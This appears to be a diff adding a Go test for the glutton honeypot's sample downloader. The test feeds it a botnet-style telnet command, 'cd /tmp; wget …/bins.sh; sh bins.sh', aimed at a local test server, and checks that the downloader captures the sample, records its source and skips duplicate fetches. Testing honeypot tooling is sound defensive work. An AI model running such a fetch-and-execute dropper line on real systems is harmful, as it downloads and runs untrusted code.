@@ -0,0 +1,67 @@
+package glutton
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/mushorg/glutton/artifact"
+	"github.com/mushorg/glutton/connection"
+	"github.com/mushorg/glutton/producer"
+
+	"github.com/spf13/viper"
+	"github.com/stretchr/testify/require"
+)
+
+func TestFetchSamples(t *testing.T) {
+	fetches := make(chan string, 4)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fetches <- r.URL.Path
+		fmt.Fprint(w, "#!/bin/sh\necho bot\n")
+	}))
+	defer server.Close()
+
+	viper.Set("downloads.enabled", true)
+	viper.Set("downloads.allow_private", true)
+	viper.Set("downloads.concurrency", 1)
+	viper.Set("downloads.dedupe_window", 60)
+	t.Cleanup(viper.Reset)
+
+	store, err := artifact.Open(t.TempDir(), artifact.Options{})
+	require.NoError(t, err)
+	defer store.Close()
+	g := &Glutton{
+		Logger:      producer.NewLogger("test"),
+		artifacts:   store,
+		attachments: make(map[uuid.UUID][]producer.EventOption),
+	}
+	g.ctx, g.cancel = context.WithCancel(context.Background())
+	defer g.cancel()
+	require.NoError(t, g.initDownloader())
+
+	md := connection.Metadata{ID: uuid.New(), Key: connection.NewConnKey("tcp", netip.MustParseAddrPort("192.0.2.1:1234"), netip.MustParseAddrPort("10.0.0.1:23"))}
+	g.FetchSamples(md, "telnet", []byte("cd /tmp; wget "+server.URL+"/bins.sh; sh bins.sh\r\n"))
+	require.Equal(t, "/bins.sh", <-fetches)
+
+	var meta *artifact.Meta
+	require.Eventually(t, func() bool {
+		err := store.ForEach(func(m *artifact.Meta) error {
+			meta = m
+			return nil
+		})
+		require.NoError(t, err)
+		return meta != nil
+	}, time.Second, time.Millisecond)
+	require.Equal(t, artifact.KindSample, meta.Kind)
+	require.Equal(t, []string{server.URL + "/bins.sh"}, meta.URLs)
+	require.Equal(t, []string{"192.0.2.1"}, meta.Sources)
+
+	// the same URL isn't fetched again within the window
+	g.FetchSamples(md, "telnet", []byte("wget "+server.URL+"/bins.sh"))
+	require.Never(t, func() bool { return len(fetches) > 0 }, 50*time.Millisecond, time.Millisecond)
+}